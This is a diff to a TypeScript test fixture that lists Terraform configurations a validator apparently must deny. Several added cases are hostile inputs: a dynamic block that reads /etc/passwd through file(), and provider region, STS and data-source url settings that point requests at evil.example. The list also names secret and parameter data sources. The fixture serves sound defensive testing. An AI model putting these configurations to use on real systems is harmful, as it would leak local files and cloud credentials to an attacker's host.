@@ -38,6 +38,20 @@ export const deniedStructure = {
     'a missing label': tf('resource "aws_s3_bucket" {\n}\n'),
     JSON: json({ action: { x: {} } }),
     'a block in variable values': { 'a.auto.tfvars': 'provider "aws" {\n}\n' },
+    'an iterator that hides each': resource(
+      'for_each = fileset("a", "*")\ndynamic "tag" {\n  iterator = each\n  for_each = ["/etc/passwd"]\n  content {\n    value = file(each.value)\n  }\n}',
+    ),
+    'the same in JSON': json({
+      resource: {
+        aws_x: {
+          x: {
+            setting: {
+              dynamic: { tag: { iterator: 'each', for_each: [1], content: { v: '${each.value}' } } },
+            },
+          },
+        },
+      },
+    }),
     'an argument at the top': tf('a = 1\n'),
   },
   'PRE-BACKEND': {
@@ -72,6 +86,10 @@ export const deniedStructure = {
   'PRE-PROVIDER-ARGUMENT': {
     'the polyglot file': tf('provider "aws" {\n  shared_config_files = ["./main.tf"]\n  profile = "x"\n}\n'),
     endpoints: tf('provider "aws" {\n  endpoints {\n    sts = "http://evil.example"\n  }\n}\n'),
+    'a region that is an address': tf(
+      'provider "aws" {\n  region = "x@evil.example/#"\n  skip_region_validation = true\n}\n',
+    ),
+    'a region of the token service': tf('provider "aws" {\n  sts_region = "x@evil.example/#"\n}\n'),
     assume_role: tf('provider "aws" {\n  assume_role {\n    role_arn = "x"\n  }\n}\n'),
     'a dynamic block': tf(
       'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n      s3 = "x"\n    }\n  }\n}\n',
@@ -112,6 +130,7 @@ export const deniedStructure = {
     'an escaped label': tf('data "ex\\u0074ernal" "x" {\n}\n'),
     'a data source in a check': tf('check "c" {\n  data "http" "y" {\n  }\n}\n'),
     secrets: tf('data "aws_secretsmanager_secret_version" "x" {\n}\n'),
+    'an address': tf('data "aws_ip_ranges" "x" {\n  services = ["ec2"]\n  url = "http://evil.example/"\n}\n'),
     parameters: tf('data "aws_ssm_parameter" "x" {\n}\n'),
     'a function run while planning': tf('data "aws_lambda_invocation" "x" {\n}\n'),
     'keys of Azure': tf('data "azurerm_key_vault_secret" "x" {\n}\n'),
